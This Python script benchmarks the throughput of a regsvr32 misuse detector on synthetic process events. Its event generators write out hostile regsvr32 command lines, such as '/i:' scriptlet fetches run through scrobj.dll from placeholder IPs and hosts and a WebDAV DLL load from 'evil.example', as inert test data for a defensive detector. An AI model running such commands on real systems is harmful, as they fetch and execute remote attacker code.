"""Detector-only throughput benchmark (a script, not a test: pytest does not collect it).

    python tests/bench_detector.py [--rows 50000] [--repeats 5]

Builds two streams in memory: ordinary processes in CIM Endpoint.Processes form (what most of
a real stream is) and regsvr32 events in several shapes, benign and malicious. Then, alternating
the measurements so that machine noise hits all of them alike, it times Detector.evaluate over
each stream next to a baseline loop that only copies each row (dict(row)). Prints the best
rows/s of the repeats, the detector/baseline ratio, and PASS/BELOW against the floors.
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "app", "bin"))
sys.path.insert(0, HERE)

import argparse  # noqa: E402
import random  # noqa: E402
import time  # noqa: E402

from support import events as ev  # noqa: E402
from regsvr32_detector import Detector, load_allowlists  # noqa: E402

FLOOR_ORDINARY = 500000
FLOOR_REGSVR32 = 30000

USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "CORP\\svc_backup"]
HOSTS = ["WS%03d" % i for i in range(1, 60)] + ["SRV-DC01", "SRV-FS02", "SRV-SQL03"]
PF, PF86, S32 = "C:\\Program Files\\", "C:\\Program Files (x86)\\", "C:\\Windows\\System32\\"
# (path, command-line arguments choices)
PROGRAMS = [
    (S32 + "svchost.exe", ["-k netsvcs -p -s Schedule", "-k LocalService -p -s EventSystem", "-k DcomLaunch -p", "-k RPCSS -p"]),
    (S32 + "conhost.exe", ["0xffffffff -ForceV1", ""]),
    (S32 + "RuntimeBroker.exe", ["-Embedding"]),
    (S32 + "taskhostw.exe", ["", "{222A245B-E637-4AE9-A93F-A59CA119A75E}"]),
    (S32 + "SearchProtocolHost.exe", ['Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\\Microsoft\\Windows Search"']),
    (S32 + "cmd.exe", ['/c "C:\\Scripts\\logon.bat"', "/c ipconfig /all", "/c echo %DATE% >> C:\\Temp\\run.log"]),
    (S32 + "WindowsPowerShell\\v1.0\\powershell.exe", ["-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "Get-Service"]),
    (S32 + "wbem\\WmiPrvSE.exe", ["-secured -Embedding", "-Embedding"]),
    (S32 + "backgroundTaskHost.exe", ['-ServerName:BackgroundTaskHost.WebAccountProvider']),
    (PF + "Google\\Chrome\\Application\\chrome.exe", ["--type=renderer --lang=en-US --field-trial-handle=1924,i,7 /prefetch:1",
                                                      "https://intranet.corp.example/portal?tab=2", "--type=gpu-process"]),
    (PF86 + "Microsoft\\Edge\\Application\\msedge.exe", ["--type=utility --utility-sub-type=network.mojom.NetworkService", ""]),
    (PF + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE", ["", "/recycle"]),
    (PF + "Microsoft Office\\root\\Office16\\EXCEL.EXE", ['"C:\\Users\\alice\\Documents\\Q3 forecast.xlsx"']),
    (PF + "Microsoft VS Code\\Code.exe", ['--type=renderer "C:\\src\\project"']),
    (PF + "Git\\cmd\\git.exe", ["fetch --all", "status --porcelain"]),
    ("C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", ["/background"]),
    ("C:\\Users\\bob\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", ["-m pip install -U requests", "manage.py runserver"]),
    ("C:\\Windows\\explorer.exe", ["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"]),
]
PARENTS = [S32 + "services.exe", "C:\\Windows\\explorer.exe", S32 + "svchost.exe", S32 + "userinit.exe", S32 + "cmd.exe"]


def _name(path):
    return path.rsplit("\\", 1)[-1]


def ordinary_rows(n, rnd):
    rows = []
    for i in range(n):
        path, args = rnd.choice(PROGRAMS)
        parent = rnd.choice(PARENTS)
        arg = rnd.choice(args)
        rows.append({
            "_time": "2026-03-%02dT%02d:%02d:%02d.%03d+00:00" % (1 + i % 28, i % 24, i % 60, (i * 7) % 60, i % 1000),
            "dest": rnd.choice(HOSTS), "user": rnd.choice(USERS),
            "process": ('"%s" %s' % (path, arg)).rstrip(), "process_name": _name(path), "process_path": path,
            "parent_process": '"%s"' % parent, "parent_process_name": _name(parent), "parent_process_path": parent,
            "process_id": str(rnd.randint(4, 65000)), "parent_process_id": str(rnd.randint(4, 65000)),
            "process_current_directory": rnd.choice([S32, "C:\\Users\\alice\\", "C:\\Windows\\", PF + "Git\\"]),
        })
    return rows


def regsvr32_rows(n, rnd):
    tmp = "C:\\Users\\alice\\AppData\\Local\\Temp\\"
    url = "http://203.0.113.9/pay.sct"
    makers = [
        lambda: ev.sysmon1(ev.REGSVR32 + " /s /n /u /i:" + url + " scrobj.dll"),
        lambda: ev.sysmon1(ev.REGSVR32 + " /s " + tmp + "shell32.jpg"),
        lambda: ev.sysmon1('regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VboxC.dll"'),
        lambda: ev.sysmon1('"' + ev.REGSVR32_WOW + '" /s /n /i:user "C:\\Users\\alice\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0.21348.1\\x86\\Microsoft.Teams.AddinLoader.dll"',
                           image=ev.REGSVR32_WOW),
        lambda: ev.sysmon1("regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll"),
        lambda: ev.sec4688_xml("regsvr32 /s C:\\Users\\Public\\x.dat"),
        lambda: ev.sec4688_classic(ev.REGSVR32 + " /s " + ev.SYS32 + "RpcProxy\\RpcProxy.dll"),
        lambda: ev.cim('"' + ev.REGSVR32 + '" /s "C:\\Program Files\\Contoso\\Shell\\ContosoShell.dll"', prefix="Processes."),
        lambda: ev.cim("regsvr32.exe /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll"),
        lambda: ev.sysmon7(ev.SYS32 + "scrobj.dll"),
        lambda: ev.sysmon7(ev.SYS32 + "shell32.dll"),
        lambda: ev.sysmon3("185.199.108.133"),
        lambda: ev.sysmon22("crl3.digicert.com"),
        lambda: ev.sysmon1(ev.SYS32 + "calc.exe", image=ev.SYS32 + "calc.exe", parent=ev.REGSVR32),
    ]
    return [rnd.choice(makers)() for _ in range(n)]


# Stream (a)/(b) of the issue "speed on the real workload": what `regsvr32_events` or the tstats
# pre-filter hands the command, every row a regsvr32 process start. Shapes: (weight, maker of a
# command line and parent from a per-row token, which makes the line unique in stream (a)).
VENDORS = ["Contoso", "Fabrikam", "Northwind", "Adatum", "Litware", "Tailspin", "Wingtip", "Proseware"]
PARENT_OF = {"installer": S32 + "msiexec.exe", "user": "C:\\Windows\\explorer.exe",
             "office": PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", "cmd": S32 + "cmd.exe",
             "script": S32 + "wscript.exe"}
SHAPES = [
    (30, "installer", lambda t, r: '"%sregsvr32.exe" /s "%s%s\\%s %d\\%s%d.dll"' % (
        S32, r.choice([PF, PF86]), r.choice(VENDORS), r.choice(["Agent", "Shell", "Viewer"]), t % 97,
        r.choice(["core", "shellext", "ui"]), t)),
    (15, "installer", lambda t, r: "regsvr32.exe /s /u \"%s%s\\Tools\\v%d\\plugin%d.ocx\"" % (
        PF86, r.choice(VENDORS), t % 13, t)),
    (15, "user", lambda t, r: '"%sregsvr32.exe" /s /n /i:user "C:\\Users\\u%d\\AppData\\Local\\Microsoft\\'
        'TeamsMeetingAddin\\1.0.%d\\x64\\Microsoft.Teams.AddinLoader.dll"' % (
            "C:\\Windows\\SysWOW64\\", t % 5000, 20000 + t)),
    (8, "user", lambda t, r: "regsvr32 /s C:\\Users\\u%d\\AppData\\Roaming\\Zoom\\bin\\zoom_outlook_%d.dll" % (
        t % 5000, t)),
    (8, "office", lambda t, r: "regsvr32 /s C:\\Users\\u%d\\AppData\\Local\\Temp\\%x.%s" % (
        t % 5000, t * 7919, r.choice(["dll", "jpg", "dat", "tmp"]))),
    (6, "cmd", lambda t, r: "regsvr32.exe /s /n /u /i:http://198.51.100.%d/%x.sct scrobj.dll" % (t % 250, t)),
    (4, "script", lambda t, r: "regsvr32 -s -i:https://cdn%d.example.net/a/%x.sct scrobj.dll" % (t % 40, t)),
    (4, "cmd", lambda t, r: "regsvr32.exe /s \\\\files%d.example@SSL\\DavWWWRoot\\%x.dll" % (t % 30, t)),
    (5, "cmd", lambda t, r: "regsvr32 /s C:\\ProgramData\\%x\\%x.ocx" % (t, t * 31)),
    (5, "installer", lambda t, r: "regsvr32.exe /s %sRpcProxy\\RpcProxy%d.dll" % (S32, t)),
]
FORMS = ("cim", "tstats", "sysmon", "4688")


def regsvr32_stream(n, rnd, distinct=None):
    """N regsvr32 process starts in CIM, tstats, Sysmon 1 and 4688 forms. DISTINCT None: no
    command line repeats (stream a); else lines come from DISTINCT tokens, a few installers on
    many hosts and a long tail of one-off lines (stream b: token drawn with a Zipf-like weight)."""
    weights = [w for w, _, _ in SHAPES]
    rows = []
    for i in range(n):
        token = i if distinct is None else int(distinct ** rnd.random()) - 1
        shape_rnd = random.Random(token)          # one token gives one line, on every host
        _, parent_kind, make = shape_rnd.choices(SHAPES, weights)[0]
        line, parent = make(token, shape_rnd), PARENT_OF[parent_kind]
        form = FORMS[i % len(FORMS)]
        host, user = rnd.choice(HOSTS), rnd.choice(USERS)
        if form in ("cim", "tstats"):
            row = ev.cim(line, parent=parent, dest=host, user=user,
                         prefix="Processes." if form == "tstats" else "")
        elif form == "sysmon":
            row = ev.sysmon1(line, parent=parent, computer=host, user=user)
        else:
            row = ev.sec4688_classic(line, parent=parent)
        rows.append(row)
    return rows


def unique_lines(rows):
    """The same rows with every command line, path and query made unique (a per-row token), so
    no cache in the detector can help: the cost of a stream in which nothing repeats."""
    out = []
    for i, r in enumerate(rows):
        r = dict(r)
        for key in ("CommandLine", "Process_Command_Line", "process", "Processes.process",
                    "ImageLoaded", "QueryName", "DestinationIp"):
            if key in r and r[key]:
                r[key] = r[key].replace("\\", "\\u%d\\" % i, 1) if "\\" in r[key] else (
                    "u%d.%s" % (i, r[key]) if key == "QueryName" else r[key])
        out.append(r)
    return out


def _time_loop(fn, rows):
    t0 = time.perf_counter()
    for r in rows:
        fn(r)
    return time.perf_counter() - t0


def measure(n_rows=50000, repeats=5):
    """Best rows/s of the detector and of the dict(row) baseline on each stream, alternating.

    Returns (note, streams, best, flagged): streams = [(label, rows, floor or None)],
    best[(label, "detector"|"baseline")] = rows/s.
    """
    rnd = random.Random(20260301)
    ordinary, regsvr = ordinary_rows(n_rows, rnd), regsvr32_rows(n_rows // 5, rnd)
    if os.path.exists(ev.DEFAULT_ALLOWLIST):
        allowlist, problems = load_allowlists([ev.DEFAULT_ALLOWLIST])
        note = "default allowlist (%d problems)" % len(problems)
    else:
        allowlist, note = None, "NO allowlist (default file missing)"
    det = Detector(allowlist) if allowlist is not None else Detector()
    for r in regsvr[:50] + ordinary[:50]:  # warm-up, and a sanity check that rows evaluate
        det.evaluate(r)
    flagged = sum(1 for r in regsvr if det.evaluate(r).score > 0)
    streams = [("ordinary", ordinary, FLOOR_ORDINARY), ("regsvr32", regsvr, FLOOR_REGSVR32),
               ("regsvr32, nothing repeats", unique_lines(regsvr), None)]
    best = {}
    for _ in range(repeats):  # alternate every measurement within each repeat
        for label, rows, _floor in streams:
            for kind, fn in (("baseline", dict), ("detector", det.evaluate)):
                secs = _time_loop(fn, rows)
                best[label, kind] = max(best.get((label, kind), 0.0), len(rows) / secs)
    return note, streams, best, flagged


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rows", type=int, default=50000)
    ap.add_argument("--repeats", type=int, default=5)
    args = ap.parse_args()
    note, streams, best, flagged = measure(args.rows, args.repeats)
    print("Python %s, %s; %d ordinary rows, %d regsvr32 rows (%d scored > 0); best of %d"
          % (sys.version.split()[0], note, len(streams[0][1]), len(streams[1][1]), flagged, args.repeats))
    print("%-26s %15s %15s %8s %12s  %s" % ("stream", "detector rows/s", "baseline rows/s", "ratio", "floor",
                                              "result"))
    for label, _rows, floor in streams:
        d, b = best[label, "detector"], best[label, "baseline"]
        print("%-26s %15s %15s %7.1f%% %12s  %s" % (
            label, format(int(d), ","), format(int(b), ","), 100.0 * d / b,
            format(floor, ",") if floor else "-", ("PASS" if d >= floor else "BELOW") if floor else "(info)"))


if __name__ == "__main__":
    main()
